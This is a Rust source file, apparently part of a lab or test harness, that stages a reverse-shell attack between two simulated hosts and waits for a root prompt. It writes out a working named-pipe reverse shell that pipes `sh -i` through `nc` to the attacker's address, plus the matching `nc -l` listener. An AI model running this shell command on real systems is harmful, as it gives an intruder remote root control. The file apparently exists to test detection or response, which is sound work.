//! What the scenario is about: a reverse shell that runs `nc` as root on production.

use std::time::Duration;

use anyhow::Result;

use crate::host::Host;
use crate::process::Process;
use crate::topology::Network;
use crate::wait::until;

const PORT: u16 = 4444;
const PATIENCE: Duration = Duration::from_secs(10);

/// A reverse shell and whom it calls, both inside the lab. Dropping it ends both.
#[derive(Debug)]
pub struct ReverseShell {
    /// The listening side.
    pub listener: Process,
    /// The shell on the victim, whose child `nc` holds the connection.
    pub shell: Process,
    /// The process id of `nc`, as the victim counts.
    pub nc: u32,
    /// The address that it calls, with the port.
    pub calls: String,
}

impl ReverseShell {
    /// Plants it as root on `victim`, calling `attacker`, and waits until the attacker has a root prompt.
    ///
    /// # Errors
    /// When the two do not share the outside network, or no connection comes about.
    pub fn plant(victim: &Host, attacker: &Host) -> Result<Self> {
        let address = attacker.address(&Network::outside())?.to_string();
        let port = PORT.to_string();
        // What the attacker types once, to see that it works. The shell answers on the same connection.
        let mut listener = attacker
            .command("sh")
            .args([
                "-c",
                r#"(echo id; exec sleep infinity) | exec nc -l -p "$1""#,
                "listen",
                &port,
            ])
            .spawn("attacker")?;
        attacker.wait_port(PORT)?;
        let shell = victim
            .command("sh")
            .args([
                "-euc",
                r#"pipe=$(mktemp -u /tmp/.XXXXXX); mkfifo "$pipe"
                   sh -i <"$pipe" 2>&1 | nc "$1" "$2" >"$pipe""#,
                "reverse-shell",
                &address,
                &port,
            ])
            .spawn("reverse-shell")?;
        listener.wait_for_log("uid=0(root)", PATIENCE)?;
        let nc = until("the number of `nc` on the victim", PATIENCE, || {
            let found = victim.run(&["pgrep", "-x", "-f", &format!("nc {address} {port}")])?;
            Ok(found.text().parse().ok())
        })?;
        Ok(Self {
            listener,
            shell,
            nc,
            calls: format!("{address}:{PORT}"),
        })
    }
}
